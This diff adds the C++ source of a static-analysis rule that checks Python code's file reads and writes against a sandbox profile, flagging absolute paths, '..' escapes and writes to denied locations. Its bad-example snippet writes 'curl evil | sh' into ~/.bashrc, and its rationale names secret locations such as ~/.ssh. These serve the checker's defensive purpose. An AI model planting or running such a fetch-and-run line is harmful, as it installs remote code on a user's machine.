@@ -1,0 +1,445 @@
+#include "rules/pg006_filesystem_access.hpp"
+
+#include <fmt/format.h>
+
+#include <algorithm>
+#include <array>
+#include <optional>
+#include <string>
+#include <vector>
+
+#include "analyzer/python_symbols.hpp"
+#include "analyzer/qualified_name_pattern.hpp"
+#include "analyzer/syntax_fields.hpp"
+#include "analyzer/unicode.hpp"
+#include "rules/name_table.hpp"
+
+namespace pygate::rules {
+namespace {
+
+using analyzer::Referent;
+using analyzer::Severity;
+
+constexpr analyzer::RuleNumber k_rule = 6;
+constexpr std::array<std::string_view, 3> k_cwe = {"CWE-22", "CWE-73", "CWE-552"};
+
+// What a call does with the path it is given.
+enum class Access : std::uint8_t {
+    read,
+    write,
+    by_mode,         // open-like: the mode argument decides (w, a, x, + write; absent: read; unknown: write)
+    by_flags,        // os.open: read only with os.O_RDONLY alone
+    change_folder,   // os.chdir: every relative path means something else afterwards
+    temporary_file,  // tempfile: the system's temporary folder, outside the working folder
+};
+
+// Where a path (or a mode) is passed.
+struct Argument {
+    static constexpr int k_none = -1;
+    static constexpr int k_object = -2;  // the Path a method is called on
+
+    constexpr Argument(int at = k_none, std::string_view name = {}, std::string_view when_absent = {})
+        : position(at), keyword(name), absent(when_absent) {}
+
+    int position;
+    std::string_view keyword;
+    std::string_view absent;  // what an omitted argument means ("." for os.listdir()); empty: no access
+};
+
+constexpr Argument k_no_path{};
+constexpr Argument k_object{Argument::k_object, {}, {}};
+
+struct FileApi {
+    std::string_view pattern;  // analyzer/qualified_name_pattern.hpp
+    std::string_view what;
+    Access access;
+    Argument path;
+    Argument mode;  // by_mode, by_flags
+    Argument second_path = k_no_path;
+    Access second_access = Access::write;
+};
+
+// Every file-touching API of the catalogue, as data.
+constexpr FileApi k_file_apis[] = {
+    {"builtins.open", "opens a file", Access::by_mode, {0, "file"}, {1, "mode", "r"}},
+    {"io.open", "opens a file", Access::by_mode, {0, "file"}, {1, "mode", "r"}},
+    {"codecs.open", "opens a file", Access::by_mode, {0, "filename"}, {1, "mode", "r"}},
+    {"os.open", "opens a file", Access::by_flags, {0, "path"}, {1, "flags"}},
+    {"os.fdopen", "opens a file descriptor", Access::by_mode, k_no_path, {1, "mode", "r"}},
+    {"pathlib.*Path.open", "opens a file", Access::by_mode, k_object, {0, "mode", "r"}},
+    {"pathlib.*Path.read_text", "reads a file", Access::read, k_object, {}},
+    {"pathlib.*Path.read_bytes", "reads a file", Access::read, k_object, {}},
+    {"pathlib.*Path.iterdir", "lists a folder", Access::read, k_object, {}},
+    {"pathlib.*Path.glob", "lists files", Access::read, k_object, {}},
+    {"pathlib.*Path.rglob", "lists files", Access::read, k_object, {}},
+    {"pathlib.*Path.write_text", "writes a file", Access::write, k_object, {}},
+    {"pathlib.*Path.write_bytes", "writes a file", Access::write, k_object, {}},
+    {"pathlib.*Path.touch", "creates a file", Access::write, k_object, {}},
+    {"pathlib.*Path.mkdir", "creates a folder", Access::write, k_object, {}},
+    {"pathlib.*Path.unlink", "deletes a file", Access::write, k_object, {}},
+    {"pathlib.*Path.rmdir", "deletes a folder", Access::write, k_object, {}},
+    {"pathlib.*Path.chmod", "changes permissions", Access::write, k_object, {}},
+    {"pathlib.*Path.lchmod", "changes permissions", Access::write, k_object, {}},
+    {"pathlib.*Path.rename", "renames a file", Access::write, k_object, {}, {0, "target"}},
+    {"pathlib.*Path.replace", "renames a file", Access::write, k_object, {}, {0, "target"}},
+    {"pathlib.*Path.symlink_to", "creates a link", Access::write, k_object, {}, {0, "target"}},
+    {"pathlib.*Path.hardlink_to", "creates a link", Access::write, k_object, {}, {0, "target"}},
+    {"os.remove", "deletes a file", Access::write, {0, "path"}, {}},
+    {"os.unlink", "deletes a file", Access::write, {0, "path"}, {}},
+    {"os.rmdir", "deletes a folder", Access::write, {0, "path"}, {}},
+    {"os.removedirs", "deletes folders", Access::write, {0, "name"}, {}},
+    {"os.mkdir", "creates a folder", Access::write, {0, "path"}, {}},
+    {"os.makedirs", "creates folders", Access::write, {0, "name"}, {}},
+    {"os.chmod", "changes permissions", Access::write, {0, "path"}, {}},
+    {"os.chown", "changes ownership", Access::write, {0, "path"}, {}},
+    {"os.lchown", "changes ownership", Access::write, {0, "path"}, {}},
+    {"os.truncate", "truncates a file", Access::write, {0, "path"}, {}},
+    {"os.utime", "changes file times", Access::write, {0, "path"}, {}},
+    {"os.mkfifo", "creates a pipe", Access::write, {0, "path"}, {}},
+    {"os.mknod", "creates a device node", Access::write, {0, "path"}, {}},
+    {"os.rename", "renames a file", Access::write, {0, "src"}, {}, {1, "dst"}},
+    {"os.renames", "renames a file", Access::write, {0, "old"}, {}, {1, "new"}},
+    {"os.replace", "renames a file", Access::write, {0, "src"}, {}, {1, "dst"}},
+    {"os.link", "creates a link", Access::write, {0, "src"}, {}, {1, "dst"}},
+    {"os.symlink", "creates a link", Access::write, {0, "src"}, {}, {1, "dst"}},
+    {"os.listdir", "lists a folder", Access::read, {0, "path", "."}, {}},
+    {"os.scandir", "lists a folder", Access::read, {0, "path", "."}, {}},
+    {"os.walk", "walks a folder tree", Access::read, {0, "top"}, {}},
+    {"os.chdir", "changes the working folder", Access::change_folder, k_no_path, {}},
+    {"os.fchdir", "changes the working folder", Access::change_folder, k_no_path, {}},
+    {"os.chroot", "changes the root folder", Access::change_folder, k_no_path, {}},
+    {"shutil.copy", "copies a file", Access::read, {0, "src"}, {}, {1, "dst"}},
+    {"shutil.copy2", "copies a file", Access::read, {0, "src"}, {}, {1, "dst"}},
+    {"shutil.copyfile", "copies a file", Access::read, {0, "src"}, {}, {1, "dst"}},
+    {"shutil.copytree", "copies a folder tree", Access::read, {0, "src"}, {}, {1, "dst"}},
+    {"shutil.copymode", "copies permissions", Access::read, {0, "src"}, {}, {1, "dst"}},
+    {"shutil.copystat", "copies file metadata", Access::read, {0, "src"}, {}, {1, "dst"}},
+    {"shutil.move", "moves a file", Access::write, {0, "src"}, {}, {1, "dst"}},
+    {"shutil.rmtree", "deletes a folder tree", Access::write, {0, "path"}, {}},
+    {"shutil.make_archive", "writes an archive", Access::write, {0, "base_name"}, {}},
+    {"shutil.unpack_archive", "extracts an archive", Access::read, {0, "filename"}, {}, {1, "extract_dir", "."}},
+    {"shutil.*", "changes files", Access::write, {0, "path"}, {}},
+    {"tempfile.*", "creates temporary files", Access::temporary_file, k_no_path, {}},
+    {"glob.glob", "lists files", Access::read, {0, "pathname"}, {}},
+    {"glob.iglob", "lists files", Access::read, {0, "pathname"}, {}},
+    {"tarfile.open", "opens an archive", Access::by_mode, {0, "name"}, {1, "mode", "r"}},
+    {"tarfile.TarFile.extractall", "extracts an archive", Access::write, {0, "path", "."}, {}},
+    {"tarfile.TarFile.extract", "extracts from an archive", Access::write, {1, "path", "."}, {}},
+    {"zipfile.ZipFile", "opens an archive", Access::by_mode, {0, "file"}, {1, "mode", "r"}},
+    {"zipfile.ZipFile.extractall", "extracts an archive", Access::write, {0, "path", "."}, {}},
+    {"zipfile.ZipFile.extract", "extracts from an archive", Access::write, {1, "path", "."}, {}},
+    {"numpy.load", "reads a file", Access::read, {0, "file"}, {}},
+    {"numpy.loadtxt", "reads a file", Access::read, {0, "fname"}, {}},
+    {"numpy.genfromtxt", "reads a file", Access::read, {0, "fname"}, {}},
+    {"numpy.fromfile", "reads a file", Access::read, {0, "file"}, {}},
+    {"numpy.save", "writes a file", Access::write, {0, "file"}, {}},
+    {"numpy.savez", "writes a file", Access::write, {0, "file"}, {}},
+    {"numpy.savez_compressed", "writes a file", Access::write, {0, "file"}, {}},
+    {"numpy.savetxt", "writes a file", Access::write, {0, "fname"}, {}},
+    {"numpy.ndarray.tofile", "writes a file", Access::write, {0, "fid"}, {}},
+    {"pandas.read_csv", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
+    {"pandas.read_table", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
+    {"pandas.read_fwf", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
+    {"pandas.read_json", "reads a file", Access::read, {0, "path_or_buf"}, {}},
+    {"pandas.read_excel", "reads a file", Access::read, {0, "io"}, {}},
+    {"pandas.read_parquet", "reads a file", Access::read, {0, "path"}, {}},
+    {"pandas.read_feather", "reads a file", Access::read, {0, "path"}, {}},
+    {"pandas.read_orc", "reads a file", Access::read, {0, "path"}, {}},
+    {"pandas.read_pickle", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
+    {"pandas.read_hdf", "reads a file", Access::read, {0, "path_or_buf"}, {}},
+    {"pandas.read_stata", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
+    {"pandas.read_sas", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
+    {"pandas.read_spss", "reads a file", Access::read, {0, "path"}, {}},
+    {"pandas.read_xml", "reads a file", Access::read, {0, "path_or_buffer"}, {}},
+    {"pandas.read_html", "reads a file", Access::read, {0, "io"}, {}},
+    {"pandas.DataFrame.to_csv", "writes a file", Access::write, {0, "path_or_buf", ""}, {}},
+    {"pandas.DataFrame.to_json", "writes a file", Access::write, {0, "path_or_buf", ""}, {}},
+    {"pandas.DataFrame.to_excel", "writes a file", Access::write, {0, "excel_writer"}, {}},
+    {"pandas.DataFrame.to_parquet", "writes a file", Access::write, {0, "path", ""}, {}},
+    {"pandas.DataFrame.to_feather", "writes a file", Access::write, {0, "path"}, {}},
+    {"pandas.DataFrame.to_orc", "writes a file", Access::write, {0, "path", ""}, {}},
+    {"pandas.DataFrame.to_pickle", "writes a file", Access::write, {0, "path"}, {}},
+    {"pandas.DataFrame.to_hdf", "writes a file", Access::write, {0, "path_or_buf"}, {}},
+    {"pandas.DataFrame.to_stata", "writes a file", Access::write, {0, "path"}, {}},
+    {"pandas.DataFrame.to_xml", "writes a file", Access::write, {0, "path_or_buffer", ""}, {}},
+    {"pandas.DataFrame.to_html", "writes a file", Access::write, {0, "buf", ""}, {}},
+    {"pandas.DataFrame.to_markdown", "writes a file", Access::write, {0, "buf", ""}, {}},
+    {"pandas.DataFrame.to_latex", "writes a file", Access::write, {0, "buf", ""}, {}},
+    {"matplotlib.pyplot.savefig", "saves a figure", Access::write, {0, "fname"}, {}},
+    {"matplotlib.figure.Figure.savefig", "saves a figure", Access::write, {0, "fname"}, {}},
+    {"sqlite3.connect", "opens a database file", Access::write, {0, "database"}, {}},
+};
+
+// The same patterns as a NameTable, for the lookup; an entry's index is its API's.
+std::vector<NameEntry> names_of_apis() {
+    std::vector<NameEntry> out;
+    for (const FileApi& api : k_file_apis)
+        out.push_back({api.pattern, api.what});
+    return out;
+}
+const std::vector<NameEntry> k_api_names = names_of_apis();
+const NameTable k_api_table{k_api_names};
+
+const FileApi& api_of(const NameEntry& entry) {
+    return k_file_apis[&entry - k_api_names.data()];
+}
+
+std::vector<std::string> apis() {
+    std::vector<std::string> out;
+    for (const FileApi& api : k_file_apis)
+        out.push_back(fmt::format("{}: {}", api.pattern, api.what));
+    return out;
+}
+std::vector<std::string> path_rules() {
+    return {
+        "constant paths: literals, concatenation, f-strings of constants, pathlib.Path(...), `/`, "
+        "os.path.join, joinpath, names bound to one",
+        "absolute: `/...`, `~`, Path.home(), os.getcwd(), abspath, realpath, resolve(), absolute()",
+        "`..` that leaves the working folder",
+        "open modes: w, a, x, + write; no mode reads; a mode that is not constant writes",
+        "the profile's filesystem.read, filesystem.write, filesystem.write_deny and filesystem.dynamic_paths"};
+}
+constexpr std::array<RuleTable, 2> k_tables = {{{"File-touching calls", apis}, {"How paths are judged", path_rules}}};
+
+// --- paths
+
+// A relative path with `.` and empty parts removed and `..` applied; nothing
+// when `..` climbs out of the working folder.
+std::optional<std::string> normalised(std::string_view path) {
+    std::vector<std::string_view> parts;
+    while (!path.empty()) {
+        std::size_t slash = path.find('/');
+        std::string_view part = path.substr(0, slash);
+        path = slash == std::string_view::npos ? std::string_view{} : path.substr(slash + 1);
+        if (part.empty() || part == ".") continue;
+        if (part == "..") {
+            if (parts.empty()) return std::nullopt;
+            parts.pop_back();
+            continue;
+        }
+        parts.push_back(part);
+    }
+    return fmt::format("{}", fmt::join(parts, "/"));
+}
+
+// Whether `path` (normalised) is `prefix` (a profile prefix such as "output/" or "./") or under it.
+bool under(const std::string& path, const std::string& prefix) {
+    std::optional<std::string> folder = normalised(prefix);
+    if (!folder) return false;
+    if (folder->empty()) return true;
+    return path == *folder ||
+           (path.starts_with(*folder) && path.size() > folder->size() && path[folder->size()] == '/');
+}
+
+bool under_any(const std::string& path, const std::vector<std::string>& prefixes) {
+    return std::any_of(prefixes.begin(), prefixes.end(), [&](const std::string& p) { return under(path, p); });
+}
+
+// A write_deny pattern: `folder/` denies that folder wherever it appears in the
+// path; any other pattern is a glob on the file name (`*.pth`, `.envrc`).
+bool denied_by(const std::string& path, const std::string& pattern) {
+    if (pattern.ends_with('/')) {
+        std::optional<std::string> folder = normalised(pattern);
+        if (!folder || folder->empty()) return false;
+        std::string wrapped = "/" + path + "/";
+        return wrapped.find("/" + *folder + "/") != std::string::npos;
+    }
+    std::string_view name = std::string_view(path).substr(path.rfind('/') + 1);
+    return analyzer::matches_qualified_name(pattern, name);
+}
+
+std::string listed(const std::vector<std::string>& prefixes) {
+    return prefixes.empty() ? std::string("none") : fmt::format("{}", fmt::join(prefixes, ", "));
+}
+
+// --- the check
+
+class Check {
+public:
+    Check(const analyzer::CallSite& site, analyzer::RuleContext& context, const FileApi& api, const NameEntry& entry,
+          const Referent& referent)
+        : m_site(site),
+          m_context(context),
+          m_api(api),
+          m_entry(entry),
+          m_referent(referent),
+          m_profile(context.profile()),
+          m_files(context.profile().filesystem) {}
+
+    void run() {
+        if (m_files.read.empty() && m_files.write.empty()) {
+            report(Severity::error, fmt::format("profile {} allows no file access (filesystem.read and "
+                                                "filesystem.write are empty)",
+                                                m_profile.name));
+            return;
+        }
+        switch (m_api.access) {
+            case Access::change_folder:
+                report(Severity::error, "it changes what every relative path means, so no path check would hold");
+                return;
+            case Access::temporary_file:
+                report(Severity::error, "the system's temporary folder is outside the working folder");
+                return;
+            default:
+                break;
+        }
+        bool first_done = check_path(m_api.path, access_of_first());
+        if (first_done && m_api.second_path.position != Argument::k_none)
+            check_path(m_api.second_path, m_api.second_access);
+    }
+
+private:
+    const analyzer::CallSite& m_site;
+    analyzer::RuleContext& m_context;
+    const FileApi& m_api;
+    const NameEntry& m_entry;
+    const Referent& m_referent;
+    const analyzer::Profile& m_profile;
+    const analyzer::FilesystemPolicy& m_files;
+
+    const analyzer::Model& model() const { return m_context.model(); }
+
+    TSNode argument(const Argument& where) const {
+        if (where.position == Argument::k_object) {
+            TSNode function = m_site.function;
+            return ts_node_symbol(function) == analyzer::PythonSymbols::get().attribute
+                       ? analyzer::attribute_object(function)
+                       : TSNode{};
+        }
+        if (where.position < 0) return {};
+        return model().argument(m_site.node, static_cast<std::uint32_t>(where.position), where.keyword);
+    }
+
+    Access access_of_first() const {
+        if (m_api.access == Access::by_mode) {
+            TSNode mode = argument(m_api.mode);
+            if (ts_node_is_null(mode)) return Access::read;
+            std::optional<std::string> folded = model().fold_string(mode, m_site.scope);
+            if (!folded) return Access::write;  // unknown mode: assume the worst
+            return folded->find_first_of("wax+") != std::string::npos ? Access::write : Access::read;
+        }
+        if (m_api.access == Access::by_flags) {
+            TSNode flags = argument(m_api.mode);
+            if (ts_node_is_null(flags)) return Access::write;
+            std::vector<Referent> referents = model().resolve(flags, m_site.scope);
+            bool read_only = referents.size() == 1 && referents[0].kind == Referent::Kind::name &&
+                             referents[0].qualified == "os.O_RDONLY";
+            return read_only ? Access::read : Access::write;
+        }
+        return m_api.access;
+    }
+
+    // Returns whether the path passed (or reported nothing worse than a review).
+    bool check_path(const Argument& where, Access access) {
+        bool writes = access == Access::write;
+        std::string_view verb = writes ? "writes" : "reads";
+        TSNode node = argument(where);
+        std::optional<std::string> path;
+        if (ts_node_is_null(node) && where.position == Argument::k_object) {
+            // A copied method (`w = p.write_text; w(...)`): its Path is out of sight, so not constant.
+        } else if (ts_node_is_null(node)) {
+            if (where.position != Argument::k_none && where.absent.empty())
+                return true;  // no file: to_csv() returns text
+            if (!where.absent.empty()) path = std::string(where.absent);
+        } else {
+            path = model().fold_path(node, m_site.scope);
+        }
+        if (!path) return dynamic(node, verb);
+        if (m_api.pattern == "sqlite3.connect" && *path == ":memory:") return true;
+        if (path->starts_with('/') || path->starts_with('~')) {
+            report(Severity::error,
+                   fmt::format("{} `{}`, an absolute path: profiles allow only paths under the working folder", verb,
+                               *path));
+            return false;
+        }
+        std::optional<std::string> relative = normalised(*path);
+        if (!relative) {
+            report(Severity::error, fmt::format("{} `{}`, which leaves the working folder through `..`", verb, *path));
+            return false;
+        }
+        if (writes) {
+            for (const std::string& pattern : m_files.write_deny) {
+                if (!denied_by(*relative, pattern)) continue;
+                report(Severity::error,
+                       fmt::format("writes `{}`, which profile {} never allows (filesystem.write_deny `{}`: a path "
+                                   "that runs code later)",
+                                   *path, m_profile.name, pattern));
+                return false;
+            }
+            if (!under_any(*relative, m_files.write)) {
+                report(Severity::error, fmt::format("writes `{}`, outside profile {}'s filesystem.write ({})", *path,
+                                                    m_profile.name, listed(m_files.write)));
+                return false;
+            }
+            return true;
+        }
+        if (!under_any(*relative, m_files.read) && !under_any(*relative, m_files.write)) {
+            report(Severity::error, fmt::format("reads `{}`, outside profile {}'s filesystem.read ({})", *path,
+                                                m_profile.name, listed(m_files.read)));
+            return false;
+        }
+        return true;
+    }
+
+    bool dynamic(TSNode node, std::string_view verb) {
+        using analyzer::DynamicPaths;
+        if (m_files.dynamic_paths == DynamicPaths::allow) return true;
+        std::string spelled = ts_node_is_null(node)
+                                  ? std::string("a file descriptor")
+                                  : fmt::format("`{}`", analyzer::first_line_shortened(model().text(node), 60));
+        report(m_files.dynamic_paths == DynamicPaths::review ? Severity::warning : Severity::error,
+               fmt::format("{} {}, which is not a constant path; profile {} has filesystem.dynamic_paths = \"{}\"",
+                           verb, spelled, m_profile.name, analyzer::dynamic_paths_name(m_files.dynamic_paths)));
+        return m_files.dynamic_paths == DynamicPaths::review;
+    }
+
+    void report(Severity severity, std::string problem) {
+        m_context.report(
+            k_rule, severity, m_site.function,
+            fmt::format("{}: {}; {}", m_entry.what, problem, m_context.how_reached(m_site.function, m_referent)),
+            specificity(m_entry), &m_referent);
+    }
+};
+
+void on_call(const analyzer::CallSite& site, analyzer::RuleContext& context) {
+    for (const Referent& referent : site.callee) {
+        if (referent.kind != Referent::Kind::name) continue;
+        const NameEntry* entry = k_api_table.match(referent.qualified);
+        if (entry == nullptr) continue;
+        Check(site, context, api_of(*entry), *entry, referent).run();
+        return;
+    }
+}
+
+constexpr analyzer::RuleHooks k_hooks{.on_call = on_call};
+
+}  // namespace
+
+const RuleMetadata k_pg006_filesystem_access{
+    .number = k_rule,
+    .name = "filesystem-access",
+    .default_severity = analyzer::Severity::error,
+    .cwe = k_cwe,
+    .summary = "Reading or changing files outside what the profile's filesystem table allows",
+    .catches =
+        "Calls that open, read, write, list, move or delete files (open, io.open, os.open, codecs.open, pathlib "
+        "methods, os and shutil functions, tempfile, glob, tarfile and zipfile, numpy, pandas, matplotlib, "
+        "sqlite3). The open mode and the path are constant-folded; the path must fall under the profile's "
+        "filesystem.read or filesystem.write prefixes, miss filesystem.write_deny, stay relative and inside the "
+        "working folder; a path that is not constant follows filesystem.dynamic_paths.",
+    .why =
+        "Untrusted code that writes where it likes can plant code that runs later (a .pth file, a git hook, a CI "
+        "workflow), and code that reads where it likes can read secrets (~/.ssh, /etc, tokens in the working "
+        "folder) and leak them through its output.",
+    .bad_example =
+        "from pathlib import Path\n"
+        "(Path.home() / '.bashrc').write_text('curl evil | sh')\n",
+    .good_example =
+        "import pandas as pd\n"
+        "pd.read_csv('input/data.csv').describe().to_csv('output/summary.csv')\n",
+    .instead = "Read the inputs the pipeline gives (input/) and write results under output/, with constant paths.",
+    .tables = k_tables,
+    .hooks = &k_hooks,
+};
+
+}  // namespace pygate::rules
